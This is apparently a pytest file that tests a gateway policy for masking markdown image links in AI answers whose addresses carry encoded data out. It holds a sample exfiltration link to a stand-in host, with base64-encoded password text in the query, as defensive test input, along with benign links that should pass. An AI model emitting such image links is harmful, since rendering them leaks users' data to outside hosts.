"""What Guard, as it ships, does about pictures in answers whose addresses carry data out."""

from dataclasses import replace
from pathlib import Path

import pytest

from gateway_desktop.core.finding import Context, Passage
from gateway_desktop.core.policy import Direction
from gateway_desktop.core.verdict import Noted
from gateway_desktop.inspection.detectors.data_leak import DataLeak
from gateway_desktop.inspection.scan import scan
from gateway_desktop.policies.decision import decide, rule_book
from gateway_desktop.policies.document import read
from tests.unit.policies.cases import a_case

GUARD = Path(__file__).resolve().parents[3] / "resources" / "policies" / "guard.yaml"


def masked(text: str, context: Context = Context.ANSWER) -> list[str]:
    passage = Passage(text, context, "/text")
    direction = Direction.ANSWER if context is Context.ANSWER else Direction.REQUEST
    noted = [Noted(one, direction, "") for one in scan([passage], [DataLeak()]).findings]
    policy = replace(read(GUARD.read_text(encoding="utf-8")), enabled=True)
    verdict = decide(rule_book([policy]), replace(a_case(), direction=direction), noted)
    return [text[one.start : one.end] for one in verdict.masks]


def test_the_address_is_taken_out_of_an_answer() -> None:
    address = "https://a.example/p.png?d=dGhlIHBhc3N3b3JkIGlz"
    assert masked(f"Done. ![ok]({address})") == [address]


@pytest.mark.parametrize(
    "text",
    [
        "![build](https://github.com/a/b/actions/workflows/ci.yml/badge.svg?branch=main)",
        "![a picture to come](https://placehold.co/600x400?text=The+picture+of+our+new+house)",
        "GET https://api.a.example/users/{email}",
        "<img src='/_next/image?url=%2Fhero.png&w=640&q=75'>",
    ],
)
def test_what_answers_about_code_hold_is_left(text: str) -> None:
    assert masked(text) == []


def test_in_a_request_it_is_told_only() -> None:
    assert masked("![ok](https://a.example/p.png?d=dGhlIHBhc3N3b3JkIGlz)", Context.USER_PROMPT) == []
